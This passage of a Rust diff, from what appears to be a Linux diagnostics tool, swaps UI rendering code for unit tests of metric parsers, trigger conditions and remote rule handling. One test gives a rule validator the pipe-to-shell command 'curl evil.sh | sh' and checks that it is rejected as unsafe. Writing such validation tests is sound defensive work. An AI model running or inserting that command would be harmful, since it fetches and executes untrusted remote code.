-    let ram_sparkline = Sparkline::default()
-        .block(
-            Block::default()
-                .title(format!("RAM: {:.1}%", metrics.mem_usage))
-                .borders(Borders::ALL),
-        )
-        .data(&ram_data)
-        .style(ratatui::style::Style::default().fg(ratatui::style::Color::Cyan));
-    frame.render_widget(ram_sparkline, graph_chunks[1]);
+    #[test]
+    fn test_parallel_gather_isolates_failing_probe() {
+        static STARTED: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
+        // Each probe waits for the other to start: run one after the other,
+        // the first one gives up and reports no overlap
+        fn overlapped() -> bool {
+            STARTED.fetch_add(1, AtomicOrdering::SeqCst);
+            let started = Instant::now();
+            while STARTED.load(AtomicOrdering::SeqCst) < 2 {
+                if started.elapsed() > Duration::from_secs(2) {
+                    return false;
+                }
+                std::thread::sleep(Duration::from_millis(5));
+            }
+            true
+        }
+        fn measure(probe: Probe) -> ProbeUpdate {
+            match probe {
+                Probe::Battery => {
+                    let overlapped = overlapped();
+                    Box::new(move |metrics| {
+                        metrics.battery_drain_w = Some(7.5).filter(|_| overlapped)
+                    })
+                }
+                Probe::Sensors => {
+                    let overlapped = overlapped();
+                    Box::new(move |metrics| {
+                        metrics.temperature_c = Some(55.0).filter(|_| overlapped)
+                    })
+                }
+                _ => panic!("probe failed"),
+            }
+        }
+        let sys = System::new();
+        let (metrics, failed) = Metrics::gather_within(
+            &sys,
+            &[Probe::Battery, Probe::Wifi, Probe::Sensors],
+            Duration::MAX,
+            measure,
+        );
+        assert_eq!(metrics.battery_drain_w, Some(7.5));
+        assert_eq!(metrics.temperature_c, Some(55.0));
+        assert_eq!(metrics.wifi_signal_dbm, None);
+        assert_eq!(failed, vec![Probe::Wifi]);
+    }
 
-    // Vitals section
-    let stats = format!(
-        "Disk: {disk:.1}%\nTemp: {temp}\nFan: {fan}\nGPU: {gpu}",
-        disk = metrics.disk_full_percent,
-        temp = metrics
-            .temperature_c
-            .map(|t| format!("{t:.1}°C"))
-            .unwrap_or_else(|| "n/a".into()),
-        fan = metrics
-            .fan_speed_rpm
-            .map(|f| format!("{f:.0} RPM"))
-            .unwrap_or_else(|| "n/a".into()),
-        gpu = metrics
-            .gpu
-            .as_ref()
-            .and_then(|g| g.temperature)
-            .map(|t| format!("{t:.1}°C"))
-            .unwrap_or_else(|| "n/a".into()),
-    );
+    #[test]
+    fn test_probe_flag_runs_only_the_named_probe() {
+        static MEASURED: Mutex<Vec<Probe>> = Mutex::new(Vec::new());
+        let measure = |probe: Probe| -> ProbeUpdate {
+            MEASURED.lock().unwrap().push(probe);
+            Box::new(|metrics| metrics.temperature_c = Some(48.0))
+        };
 
-    let stats_block =
-        Paragraph::new(stats).block(Block::default().title("Vitals").borders(Borders::ALL));
-    frame.render_widget(stats_block, chunks[1]);
+        let cli = Cli::try_parse_from(["why", "--probe", "sensors"]).unwrap();
+        let report = debug_probe(cli.probe.as_deref().unwrap(), measure).unwrap();
+        assert_eq!(*MEASURED.lock().unwrap(), vec![Probe::Sensors]);
+        assert_eq!(
+            report.parsed,
+            vec![("temperature_c".to_string(), serde_json::json!(48.0))]
+        );
 
-    // Findings section
-    let mut list = String::new();
-    for finding in findings.iter().take(8) {
-        list.push_str(&format!(
-            "{} — {}\n{}\n\n",
-            finding.severity, finding.message, finding.solution
+        assert!(debug_probe("bogus", measure).is_none());
+        assert_eq!(MEASURED.lock().unwrap().len(), 1);
+        assert!(probe_names().contains(&"gpu"));
+    }
+
+    #[test]
+    fn test_swap_condition() {
+        let trigger = parse_trigger("swap>50 && mem>80");
+        let conditions = trigger.conditions();
+        assert!(matches!(conditions[0], Condition::SwapGreater(value) if *value == 50.0));
+        assert!(parse_condition("swap>lots").is_none());
+
+        let swapping = Metrics {
+            mem_usage: 92.0,
+            swap_usage_percent: 71.5,
+            swap_total_mb: 8192,
+            ..Default::default()
+        };
+        assert!(trigger_holds(&trigger, &swapping, None));
+        assert_eq!(condition_metric_value(conditions[0], &swapping), Some(71.5));
+        // No swap configured reads as 0%
+        let no_swap = Metrics {
+            mem_usage: 92.0,
+            ..Default::default()
+        };
+        assert!(!trigger_holds(&trigger, &no_swap, None));
+    }
+
+    #[test]
+    fn test_parse_load_average() {
+        assert_eq!(
+            parse_load_average("0.52 1.58 2.59 3/1234 56789\n"),
+            Some((0.52, 1.58, 2.59))
+        );
+        assert_eq!(parse_load_average("0.52 1.58"), None);
+        assert_eq!(parse_load_average("high 1.58 2.59 3/1234 56789"), None);
+    }
+
+    #[test]
+    fn test_load_average_condition() {
+        let trigger = parse_trigger("loadavg>8");
+        let conditions = trigger.conditions();
+        assert!(matches!(conditions[0], Condition::LoadAvgGreater(value) if *value == 8.0));
+        assert!(parse_condition("loadavg>busy").is_none());
+
+        let overloaded = Metrics {
+            load_avg_1: Some(12.5),
+            load_avg_5: Some(4.0),
+            ..Default::default()
+        };
+        assert!(trigger_holds(&trigger, &overloaded, None));
+        assert_eq!(
+            condition_metric_value(conditions[0], &overloaded),
+            Some(12.5)
+        );
+        // Only the 1-minute value counts
+        let recovering = Metrics {
+            load_avg_1: Some(2.0),
+            load_avg_15: Some(12.0),
+            ..Default::default()
+        };
+        assert!(!trigger_holds(&trigger, &recovering, None));
+        // No /proc/loadavg never fires
+        assert!(!trigger_holds(&trigger, &Metrics::default(), None));
+    }
+
+    #[test]
+    fn test_process_memory_percent_condition() {
+        let trigger = parse_trigger("process_mem_pct[Firefox]>25");
+        let conditions = trigger.conditions();
+        assert!(matches!(
+            conditions[0],
+            Condition::ProcessMemPercentGreater { name, percent } if name == "firefox" && *percent == 25.0
+        ));
+        assert!(parse_condition("process_mem_pct[]>25").is_none());
+        assert!(parse_condition("process_mem_pct[firefox]>lots").is_none());
+        assert!(parse_condition("process_mem_pct[firefox>25").is_none());
+
+        // Two firefox processes of 2 and 3 GiB on a 16 GiB box
+        let processes: Vec<(f32, u64, &str)> = vec![
+            (1.0, 2 * 1024 * 1024 * 1024, "firefox"),
+            (0.5, 3 * 1024 * 1024 * 1024, "Firefox"),
+            (0.0, 512 * 1024 * 1024, "bash"),
+        ];
+        let metrics = Metrics {
+            total_ram_mb: 16 * 1024,
+            process_memory_mb: process_memory(&processes),
+            ..Default::default()
+        };
+        assert_eq!(condition_metric_value(conditions[0], &metrics), Some(31.25));
+        assert!(trigger_holds(&trigger, &metrics, None));
+        assert!(!trigger_holds(
+            &parse_trigger("process_mem_pct[firefox]>40"),
+            &metrics,
+            None
         ));
+        assert!(!trigger_holds(
+            &parse_trigger("process_mem_pct[bash]>25"),
+            &metrics,
+            None
+        ));
+        // A process that is not running has no value and never fires
+        let absent = parse_trigger("!process_mem_pct[steam]>0");
+        assert_eq!(
+            condition_metric_value(absent.conditions()[0], &metrics),
+            None
+        );
+        assert_eq!(metrics.process_memory_mb["firefox"], 5 * 1024);
+        assert_eq!(metrics.process_memory_mb["bash"], 512);
     }
-    if list.is_empty() {
-        list.push_str(&t!("all_good"));
+
+    #[test]
+    fn test_no_history_skips_db() {
+        assert!(history_enabled(false, false, None));
+        assert!(!history_enabled(true, false, None));
+        assert!(!history_enabled(true, true, Some(true)));
+        assert!(!history_enabled(false, false, Some(false)));
+        // JSON runs stay out of the DB unless the config opts in
+        assert!(!history_enabled(false, true, None));
+        assert!(history_enabled(false, true, Some(true)));
+
+        let findings = vec![test_finding("disk_full", 9)];
+        for (no_history, expected) in [(true, false), (false, true)] {
+            let db = temp_history_db("no-history");
+            if history_enabled(no_history, false, None) {
+                log_to_history(&db.path, &findings, &[], &Metrics::default(), true).unwrap();
+            }
+            assert_eq!(db.path.exists(), expected);
+        }
     }
 
-    let findings_block =
-        Paragraph::new(list).block(Block::default().title("Findings").borders(Borders::ALL));
-    frame.render_widget(findings_block, chunks[2]);
-}
+    #[test]
+    fn test_parse_oom_kills() {
+        let dmesg = "\
+[ 1021.334455] chrome invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=300
+[ 1021.334512] Out of memory: Killed process 4242 (chrome) total-vm:9876544kB, anon-rss:2097152kB, file-rss:1024kB, shmem-rss:0kB, UID:1000 pgtables:8192kB oom_score_adj:300
+[ 1500.000001] usb 1-2: new high-speed USB device number 5
+Oct 14 10:02:11 box kernel: Out of memory: Kill process 777 (java) score 912 or sacrifice child
+Oct 14 10:02:11 box kernel: Memory cgroup out of memory: Killed process 777 (java) total-vm:4194304kB, anon-rss:1048576kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:2048kB oom_score_adj:0
+";
+        let kills = parse_oom_kills(dmesg);
+        assert_eq!(
+            kills,
+            vec![
+                OomKill {
+                    when: "Oct 14 10:02:11 box".to_string(),
+                    process: "java".to_string(),
+                    pid: 777,
+                    total_vm_kb: Some(4194304),
+                    rss_kb: Some(1048576),
+                },
+                OomKill {
+                    when: "[ 1021.334512]".to_string(),
+                    process: "chrome".to_string(),
+                    pid: 4242,
+                    total_vm_kb: Some(9876544),
+                    rss_kb: Some(2098176),
+                },
+            ]
+        );
+        assert!(parse_oom_kills("[ 5.0] all quiet").is_empty());
+    }
 
-fn user_home_dir() -> Option<PathBuf> {
-    env::var("HOME")
-        .map(PathBuf::from)
-        .ok()
-        .or_else(|| env::var("USERPROFILE").map(PathBuf::from).ok())
-}
+    #[test]
+    fn test_thermal_zone_trip_points() {
+        let dir = std::env::temp_dir().join(format!("why-thermal-{}", std::process::id()));
+        let zone = |name: &str, kind: &str, temp: &str, trips: &[(&str, &str)]| {
+            let path = dir.join(name);
+            fs::create_dir_all(&path).unwrap();
+            fs::write(path.join("type"), format!("{kind}\n")).unwrap();
+            fs::write(path.join("temp"), temp).unwrap();
+            for (idx, (trip_type, trip_temp)) in trips.iter().enumerate() {
+                fs::write(path.join(format!("trip_point_{idx}_type")), trip_type).unwrap();
+                fs::write(path.join(format!("trip_point_{idx}_temp")), trip_temp).unwrap();
+            }
+        };
+        zone(
+            "thermal_zone0",
+            "x86_pkg_temp",
+            "92000\n",
+            &[
+                ("passive", "95000"),
+                ("critical", "100000"),
+                ("passive", "90000"),
+            ],
+        );
+        zone(
+            "thermal_zone1",
+            "acpitz",
+            "45000",
+            &[("critical", "-273150"), ("hot", "80000")],
+        );
+        zone(
+            "thermal_zone2",
+            "iwlwifi_1",
+            "38000",
+            &[("critical", "118000")],
+        );
+        fs::create_dir_all(dir.join("cooling_device0")).unwrap();
+
+        let zones = read_thermal_zones(&dir);
+        assert_eq!(
+            zones,
+            vec![
+                ThermalZone {
+                    name: "acpitz".to_string(),
+                    temp_c: 45.0,
+                    passive_c: None,
+                    critical_c: None,
+                },
+                ThermalZone {
+                    name: "iwlwifi_1".to_string(),
+                    temp_c: 38.0,
+                    passive_c: None,
+                    critical_c: Some(118.0),
+                },
+                ThermalZone {
+                    name: "x86_pkg_temp".to_string(),
+                    temp_c: 92.0,
+                    passive_c: Some(90.0),
+                    critical_c: Some(100.0),
+                },
+            ]
+        );
+        assert_eq!(zones[2].critical_headroom(), Some(8.0));
+        assert!(matches!(
+            thermal_zone_line(&zones[0]).level,
+            InsightLevel::Info
+        ));
+        assert!(matches!(
+            thermal_zone_line(&zones[1]).level,
+            InsightLevel::Good
+        ));
+        assert!(matches!(
+            thermal_zone_line(&zones[2]).level,
+            InsightLevel::Critical
+        ));
+        // Past passive but far from critical: throttling
+        let throttling = ThermalZone {
+            temp_c: 85.0,
+            passive_c: Some(80.0),
+            critical_c: Some(105.0),
+            ..zones.into_iter().next().unwrap()
+        };
+        assert!(matches!(
+            thermal_zone_line(&throttling).level,
+            InsightLevel::Warning
+        ));
+        assert!(read_thermal_zones(&dir.join("missing")).is_empty());
+        let _ = fs::remove_dir_all(&dir);
+    }
 
-const RULES_PATH: &str = "rules.toml";
+    #[test]
+    fn test_watch_summary_lists_final_findings() {
+        let metrics = Metrics {
+            cpu_usage: Some(97.0),
+            mem_usage: 42.5,
+            disk_full_percent: 91.0,
+            ..Default::default()
+        };
+        let finding = |severity_value: u8, message: &str, solution: &str| Finding {
+            // Both below critical, so the same marker for the two
+            severity: format!("⚠️ {severity_value}"),
+            message: message.to_string(),
+            solution: solution.to_string(),
+            ..test_finding(message, severity_value)
+        };
+        let findings = vec![
+            finding(5, "Disk almost full", "Free some space"),
+            finding(8, "CPU pegged", "Check top"),
+        ];
+        let summary = watch_summary(&metrics, &findings);
+        let lines: Vec<&str> = summary.lines().collect();
+        assert_eq!(lines[1], "CPU: 97.0% | RAM: 42.5% | Disk: 91.0%");
+        assert_eq!(
+            &lines[2..],
+            [
+                "⚠️ 8 — CPU pegged",
+                "  Check top",
+                "⚠️ 5 — Disk almost full",
+                "  Free some space"
+            ]
+        );
+        assert!(watch_summary(&metrics, &[]).contains(&*t!("all_good")));
+    }
 
-#[cfg(test)]
-mod tests {
-    use super::*;
+    #[test]
+    fn test_inode_usage() {
+        let df_inodes = "\
+Filesystem       Inodes   IUsed  IFree IUse% Mounted on
+/dev/sda2       6553600 6553598      2  100% /
+";
+        assert_eq!(df_use_percent(df_inodes), Some(100.0));
+        let btrfs = "\
+Filesystem     Inodes IUsed IFree IUse% Mounted on
+/dev/nvme0n1p2      0     0     0     - /
+";
+        assert_eq!(df_use_percent(btrfs), None);
+        assert_eq!(df_use_percent(""), None);
+
+        let trigger = parse_trigger("inodes_full>90");
+        let conditions = trigger.conditions();
+        assert!(matches!(conditions[0], Condition::InodeFullGreater(value) if *value == 90.0));
+        let metrics = Metrics {
+            disk_full_percent: 40.0,
+            inode_full_percent: df_use_percent(df_inodes),
+            ..Default::default()
+        };
+        assert!(trigger_holds(&trigger, &metrics, None));
+        assert_eq!(condition_metric_value(conditions[0], &metrics), Some(100.0));
+        assert!(!trigger_holds(&trigger, &Metrics::default(), None));
+    }
 
     #[test]
-    fn test_parse_trigger_single_condition() {
-        let conditions = parse_trigger("cpu>60");
-        assert_eq!(conditions.len(), 1);
-        match &conditions[0] {
-            Condition::CpuGreater(val) => assert_eq!(*val, 60.0),
-            _ => panic!("Expected CpuGreater condition"),
-        }
+    fn test_gigabytes_per_second() {
+        assert_eq!(
+            gigabytes_per_second(10_000_000_000, Duration::from_secs(2)),
+            Some(5.0)
+        );
+        let rate = gigabytes_per_second(1 << 30, Duration::from_millis(125)).unwrap();
+        assert!((rate - 8.589934592).abs() < 1e-9);
+        assert_eq!(gigabytes_per_second(1 << 30, Duration::ZERO), None);
     }
 
     #[test]
-    fn test_parse_trigger_multiple_conditions() {
-        let conditions = parse_trigger("cpu>80 && mem>90");
-        assert_eq!(conditions.len(), 2);
-        match &conditions[0] {
-            Condition::CpuGreater(val) => assert_eq!(*val, 80.0),
-            _ => panic!("Expected CpuGreater condition"),
-        }
-        match &conditions[1] {
-            Condition::MemGreater(val) => assert_eq!(*val, 90.0),
-            _ => panic!("Expected MemGreater condition"),
-        }
+    fn test_gpu_clocks() {
+        let csv = "\
+NVIDIA GeForce RTX 3080, 550.54.14, 61, 97, 8000, 10240, 45, 705, 2100, 9501, 9501, 2, 215.32
+NVIDIA GeForce RTX 3080, 550.54.14, 40, 3, 512, 10240, 30, 210, 2100, 405, 9501, 0, 24.10
+Tesla T4, 550.54.14, 35, 0, 0, 15360, [N/A], 300, 1590, [N/A], [N/A], 0, [N/A]
+";
+        // The one query feeds the details, the clocks and the encoders
+        let gpu = parse_nvidia_gpu(csv).unwrap();
+        assert_eq!(gpu.driver.as_deref(), Some("550.54.14"));
+        assert_eq!(gpu.temperature, Some(61.0));
+        assert_eq!(gpu.memory_used_mb, Some(8000.0));
+        assert_eq!(parse_nvenc_stats(csv).len(), 3);
+        let clocks = parse_nvidia_clocks(csv);
+        assert_eq!(clocks.len(), 3);
+        assert_eq!(
+            clocks[0],
+            GpuClocks {
+                gpu: "NVIDIA GeForce RTX 3080".to_string(),
+                utilization: Some(97.0),
+                core_mhz: 705.0,
+                core_max_mhz: 2100.0,
+                mem_mhz: Some(9501.0),
+                mem_max_mhz: Some(9501.0),
+                power_w: Some(215.32),
+            }
+        );
+        assert_eq!(clocks[2].mem_mhz, None);
+        assert_eq!(clocks[2].power_w, None);
+        // Busy at a third of max is pinned; idle at low clocks is normal
+        assert_eq!(clocks[0].underclocked(), Some(true));
+        assert_eq!(clocks[1].underclocked(), Some(false));
+        assert!(matches!(
+            gpu_clock_line(&clocks[0]).level,
+            InsightLevel::Warning
+        ));
+        assert!(matches!(
+            gpu_clock_line(&clocks[1]).level,
+            InsightLevel::Info
+        ));
+        assert_eq!(any_gpu_underclocked(&clocks), Some(true));
+        assert_eq!(any_gpu_underclocked(&clocks[1..]), Some(false));
+        assert_eq!(any_gpu_underclocked(&[]), None);
+
+        assert_eq!(
+            parse_pp_dpm("0: 500Mhz\n1: 800Mhz *\n2: 2450Mhz\n"),
+            Some((800.0, 2450.0))
+        );
+        assert_eq!(parse_pp_dpm("0: 500Mhz\n1: 800Mhz\n"), None);
+
+        let device = std::env::temp_dir().join(format!("why-hwmon-{}", std::process::id()));
+        let hwmon = device.join("hwmon/hwmon3");
+        fs::create_dir_all(&hwmon).unwrap();
+        assert_eq!(read_hwmon_power(&device), None);
+        fs::write(hwmon.join("power1_input"), "48250000\n").unwrap();
+        assert_eq!(read_hwmon_power(&device), Some(48.25));
+        fs::remove_dir_all(&device).unwrap();
+
+        let trigger = parse_trigger("gpu_underclocked=true");
+        let metrics = Metrics {
+            gpu_underclocked: any_gpu_underclocked(&clocks),
+            ..Default::default()
+        };
+        assert!(trigger_holds(&trigger, &metrics, None));
+        assert!(!trigger_holds(&trigger, &Metrics::default(), None));
     }
 
     #[test]
-    fn test_parse_trigger_process_condition() {
-        let conditions = parse_trigger("process=chrome");
-        assert_eq!(conditions.len(), 1);
-        match &conditions[0] {
-            Condition::ProcessContains(name) => assert_eq!(name, "chrome"),
-            _ => panic!("Expected ProcessContains condition"),
-        }
+    fn test_parse_coredump_list() {
+        let list = "\
+Mon 2026-10-12 09:14:02 UTC  4242 1000 1000 SIGSEGV present  /usr/bin/okular          12.3M
+Tue 2026-10-13 18:40:55 WEST  901    0    0 SIGABRT missing  /usr/lib/xorg/Xorg          n/a
+Wed 2026-10-14 07:01:13 UTC 17000 1000 1000 SIGTRAP present  /opt/app/bin/worker 2     900.0K
+";
+        let entries = parse_coredump_list(list);
+        assert_eq!(entries.len(), 3);
+        assert_eq!(
+            entries[0],
+            CoredumpEntry {
+                time: "Mon 2026-10-12 09:14:02 UTC".to_string(),
+                pid: 4242,
+                signal: "SIGSEGV".to_string(),
+                executable: "/usr/bin/okular".to_string(),
+            }
+        );
+        assert_eq!(entries[1].time, "Tue 2026-10-13 18:40:55 WEST");
+        assert_eq!(entries[2].executable, "/opt/app/bin/worker");
+
+        let lines = coredump_entry_lines(&entries);
+        // Most recent first, then the backtrace tip
+        assert_eq!(lines.len(), 4);
+        assert!(lines[0].message.contains("worker"));
+        assert!(matches!(lines[0].level, InsightLevel::Warning));
+        assert!(matches!(lines[1].level, InsightLevel::Critical));
+        assert!(matches!(lines[2].level, InsightLevel::Critical));
+        assert!(parse_coredump_list("").is_empty());
+        assert!(matches!(
+            coredump_entry_lines(&[])[0].level,
+            InsightLevel::Good
+        ));
     }
 
     #[test]
-    fn test_parse_trigger_disk_condition() {
-        let conditions = parse_trigger("disk_full>90");
-        assert_eq!(conditions.len(), 1);
-        match &conditions[0] {
-            Condition::DiskFullGreater(val) => assert_eq!(*val, 90.0),
-            _ => panic!("Expected DiskFullGreater condition"),
-        }
+    fn test_machine_id_plain_and_redacted() {
+        let raw = "4c4c4544004d3510804bb4c04f4b3332\n";
+        assert_eq!(
+            host_machine_id(raw, false).as_deref(),
+            Some("4c4c4544004d3510804bb4c04f4b3332")
+        );
+        // Same value as `sd_id128_get_machine_app_specific` with MACHINE_ID_APP
+        let redacted = host_machine_id(raw, true).unwrap();
+        assert_eq!(redacted, "a72227867e4b4c7e94dad203efdd0108");
+        assert_eq!(host_machine_id(raw, true).unwrap(), redacted);
+        assert_ne!(
+            host_machine_id("4c4c4544004d3510804bb4c04f4b3333", true).unwrap(),
+            redacted
+        );
+        assert_eq!(host_machine_id("not-an-id", true), None);
+        assert_eq!(host_machine_id(" \n", true), None);
+
+        let metrics = Metrics::default();
+        let with_id = output::render(
+            OutputFormat::Json,
+            &[],
+            &metrics,
+            &[],
+            Some(&redacted),
+            true,
+        )
+        .unwrap();
+        assert!(with_id.contains(&format!("\"machine_id\":\"{redacted}\"")));
+        let without = output::render(OutputFormat::Json, &[], &metrics, &[], None, true).unwrap();
+        assert!(!without.contains("machine_id"));
     }
 
     #[test]
-    fn test_parse_trigger_gpu_vendor() {
-        let conditions = parse_trigger("gpu_vendor=nvidia");
-        assert_eq!(conditions.len(), 1);
-        match &conditions[0] {
-            Condition::GpuVendorEquals(vendor) => assert_eq!(vendor, "nvidia"),
-            _ => panic!("Expected GpuVendorEquals condition"),
-        }
+    fn test_partial_thresholds_keep_defaults() {
+        let config =
+            config::parse_config("[thresholds]\ncpu_critical = 95\nboot_service_warning_s = 8.5\n")
+                .unwrap();
+        let limits = &config.thresholds;
+        assert_eq!(limits.cpu_critical, 95.0);
+        assert_eq!(limits.boot_service_warning_s, 8.5);
+        assert_eq!(limits.cpu_warning, 60.0);
+        assert_eq!(limits.boot_service_critical_s, BOOT_SLOW_SERVICE_CRITICAL);
+        assert_eq!(limits.performance_target_ms, PERFORMANCE_TARGET_MS);
+        assert_eq!(
+            config::parse_config("history_limit = 3")
+                .unwrap()
+                .thresholds,
+            config::Thresholds::default()
+        );
     }
 
     #[test]
-    fn test_parse_trigger_gpu_temp() {
-        let conditions = parse_trigger("gpu_temp>85");
-        assert_eq!(conditions.len(), 1);
-        match &conditions[0] {
-            Condition::GpuTempGreater(val) => assert_eq!(*val, 85.0),
-            _ => panic!("Expected GpuTempGreater condition"),
+    fn test_detect_log_floods_counts_repeated_kernel_lines() {
+        let mut logs = String::new();
+        for i in 0..25 {
+            logs.push_str(&format!(
+                "[{:>5}.{:06}] pcieport 0000:00:1c.0: AER: Corrected error received: 0000:03:00.0\n",
+                100 + i,
+                i
+            ));
+            logs.push_str(&format!(
+                "Oct 14 10:00:{i:02} host kernel: usb 1-2: device descriptor read/64, error -71\n"
+            ));
+            logs.push_str("Oct 14 10:00:00 host systemd[1]: Started session.\n");
         }
+        logs.push_str("[  200.000001] usb 1-2: new high-speed USB device number 7\n");
+
+        let floods = detect_log_floods(&logs, LOG_FLOOD_MIN_REPEATS);
+        assert_eq!(floods.len(), 2);
+        assert!(floods.iter().all(|(_, count)| *count == 25));
+        assert!(floods.iter().any(|(message, _)| message
+            == "pcieport 0000:00:1c.0: AER: Corrected error received: 0000:03:00.0"));
+        assert!(!floods
+            .iter()
+            .any(|(message, _)| message.contains("Started session")));
+        assert!(detect_log_floods(&logs, 26).is_empty());
+
+        let lines = log_flood_lines(&floods);
+        assert!(matches!(lines[0].level, InsightLevel::Warning));
+        assert!(lines[0].message.contains("25"));
+        assert!(matches!(lines.last().unwrap().level, InsightLevel::Info));
     }
 
     #[test]
-    fn test_parse_trigger_complex() {
-        let conditions = parse_trigger("gpu_vendor=amd && gpu_temp>80 && gpu_util>95");
-        assert_eq!(conditions.len(), 3);
+    fn test_condition_registry_lists_every_parser() {
+        let mut tokens: Vec<&str> = CONDITIONS.iter().map(|spec| spec.token).collect();
+        tokens.sort();
+        tokens.dedup();
+        assert_eq!(tokens.len(), CONDITIONS.len());
+
+        for spec in CONDITIONS {
+            assert!(spec.example.starts_with(spec.token), "{}", spec.token);
+            assert!(parse_condition(spec.example).is_some(), "{}", spec.example);
+        }
+
+        let listing = condition_listing();
+        assert!(listing.contains("prime_offload=disabled"));
+        for sample in [
+            "cpu>80",
+            "process=chrome",
+            "gpu_temp>85",
+            "env_set[",
+            "log_contains=",
+        ] {
+            assert!(listing.contains(sample), "{sample}");
+        }
     }
 
     #[test]
-    fn test_condition_holds_cpu() {
-        let metrics = Metrics {
-            cpu_usage: 75.0,
-            mem_usage: 50.0,
-            total_ram_mb: 16000,
-            disk_full_percent: 50.0,
-            filesystem: None,
-            snap_loops: None,
-            flatpak_unused: None,
-            battery_drain_w: None,
-            wifi_channel_count: None,
-            wifi_signal_dbm: None,
-            fan_speed_rpm: None,
-            temperature_c: None,
-            wayland_vs_x11: None,
-            docker_dangling: None,
-            process_names: vec![],
-            process_count: 0,
-            pipewire_latency_ms: None,
-            firefox_soft_render: None,
-            zfs_arc_full_percent: None,
-            luks_device_count: None,
-            gpu: None,
-            prime_offload_enabled: false,
-            gamescope_running: false,
-            steam_running: false,
-            proton_failure_detected: false,
-            vulkan_loader_missing: false,
+    fn test_registry_examples_can_hold() {
+        let gpu = |temperature| GpuDetails {
+            vendor: "NVIDIA".to_string(),
+            temperature: Some(temperature),
+            utilization: Some(99.0),
+            memory_total_mb: Some(8192.0),
+            memory_used_mb: Some(8000.0),
+            ..Default::default()
+        };
+        let high = Metrics {
+            cpu_usage: Some(99.0),
+            mem_usage: 99.0,
+            total_ram_mb: 32768,
+            swap_usage_percent: 99.0,
+            load_avg_1: Some(16.0),
+            disk_full_percent: 99.0,
+            inode_full_percent: Some(99.0),
+            filesystem: Some("btrfs".to_string()),
+            snap_loops: Some(99),
+            flatpak_unused: Some(99),
+            battery_drain_w: Some(30.0),
+            wifi_channel_count: Some(9),
+            fan_speed_rpm: Some(5000.0),
+            temperature_c: Some(99.0),
+            wayland_vs_x11: Some("x11".to_string()),
+            docker_dangling: Some(99),
+            process_names: vec!["chrome".to_string()],
+            process_count: 999,
+            process_memory_mb: BTreeMap::from([("firefox".to_string(), 16384)]),
+            pipewire_latency_ms: Some(99.0),
+            firefox_soft_render: Some(true),
+            zfs_arc_full_percent: Some(99.0),
+            luks_device_count: Some(1),
+            gpu: Some(gpu(99.0)),
+            gamescope_running: Some(true),
+            steam_running: Some(true),
+            proton_failure_detected: Some(true),
+            vulkan_loader_missing: Some(true),
+            conntrack_usage_percent: Some(99.0),
+            tmpfs_full_percent: Some(99.0),
+            iowait_percent: Some(99.0),
+            stale_mounts: Some(vec!["/mnt/nas".to_string()]),
+            firmware_updates: Some(1),
+            coredump_size_mb: Some(4096.0),
+            hw_encoder_missing: Some(true),
+            unit_restarts: Some(99),
+            gpu_driver_mismatch: Some(true),
+            gpu_underclocked: Some(true),
+            ..Default::default()
+        };
+        let low = Metrics {
+            cpu_usage: Some(1.0),
+            mem_usage: 1.0,
+            total_ram_mb: 2048,
+            wifi_signal_dbm: Some(-90.0),
+            gpu: Some(gpu(20.0)),
+            prime_offload_enabled: Some(false),
+            vulkan_device_count: Some(0),
+            ..Default::default()
         };
 
-        let condition = Condition::CpuGreater(60.0);
-        assert!(condition_holds(&condition, &metrics, None));
+        for spec in CONDITIONS {
+            let condition = parse_condition(spec.example).unwrap();
+            // These read the process environment, not the metrics
+            if matches!(
+                condition,
+                Condition::EnvEquals { .. } | Condition::EnvSet { .. }
+            ) {
+                continue;
+            }
+            assert!(
+                [&high, &low].iter().any(|metrics| condition_holds(
+                    &condition,
+                    metrics,
+                    Some("I/O error")
+                )),
+                "{}",
+                spec.example
+            );
+        }
+    }
 
-        let condition = Condition::CpuGreater(80.0);
-        assert!(!condition_holds(&condition, &metrics, None));
+    #[test]
+    fn test_remote_rules_validation_and_url() {
+        let rule = |auto_fix: &str| {
+            format!(
+                "[[rule]]\nname = \"r\"\ntrigger = \"cpu>90\"\nmessage = \"m\"\nsolution = \"s\"\nseverity = 5\n{auto_fix}"
+            )
+        };
+        let ok = validate_remote_rules(&rule("auto_fix = \"balooctl disable\"\n")).unwrap();
+        assert_eq!(ok.rule.len(), 1);
+
+        let empty = validate_remote_rules("rule = []\n").err().unwrap();
+        assert!(empty.to_string().contains("no rules"));
+        let unsafe_fix = validate_remote_rules(&rule("auto_fix = \"curl evil.sh | sh\"\n"))
+            .err()
+            .unwrap();
+        assert!(unsafe_fix.to_string().contains("unsafe auto_fix"));
+        assert!(validate_remote_rules("[[rule]\n").is_err());
+
+        let url = |flag, env| rules_url(flag, env).unwrap();
+        assert_eq!(url(None, None), RULES_REMOTE_URL);
+        assert_eq!(url(None, Some(" ")), RULES_REMOTE_URL);
+        assert_eq!(url(None, Some("https://e.x/r.toml")), "https://e.x/r.toml");
+        assert_eq!(
+            url(Some("https://flag/r.toml"), Some("https://e.x/r.toml")),
+            "https://flag/r.toml"
+        );
+        assert!(rules_url(Some(""), None).is_err());
+        assert!(rules_url(Some("  "), Some("https://e.x/r.toml")).is_err());
+        assert!(rules_url(Some("http://mirror/r.toml"), None).is_err());
+        assert!(rules_url(None, Some("http://mirror/r.toml")).is_err());
+        assert!(rules_url(None, Some("file:///tmp/r.toml")).is_err());
     }
 
     #[test]
-    fn test_condition_holds_memory() {
-        let metrics = Metrics {
-            cpu_usage: 50.0,
-            mem_usage: 85.0,
-            total_ram_mb: 16000,
-            disk_full_percent: 50.0,
-            filesystem: None,
-            snap_loops: None,
-            flatpak_unused: None,
-            battery_drain_w: None,
-            wifi_channel_count: None,
-            wifi_signal_dbm: None,
-            fan_speed_rpm: None,
-            temperature_c: None,
-            wayland_vs_x11: None,
-            docker_dangling: None,
-            process_names: vec![],
-            process_count: 0,
-            pipewire_latency_ms: None,
-            firefox_soft_render: None,
-            zfs_arc_full_percent: None,
-            luks_device_count: None,
-            gpu: None,
-            prime_offload_enabled: false,
-            gamescope_running: false,
-            steam_running: false,
-            proton_failure_detected: false,
-            vulkan_loader_missing: false,
+    fn test_diff_snapshot_deltas_and_findings() {
+        let finding = |rule: &str| Finding {
+            actionable: false,
+            ..test_finding(rule, 5)
         };
+        let snapshot = |metrics: Metrics, findings: Vec<Finding>| SnapshotData {
+            schema_version: schema::SCHEMA_VERSION,
+            timestamp: "2026-10-14T10:00:00+00:00".to_string(),
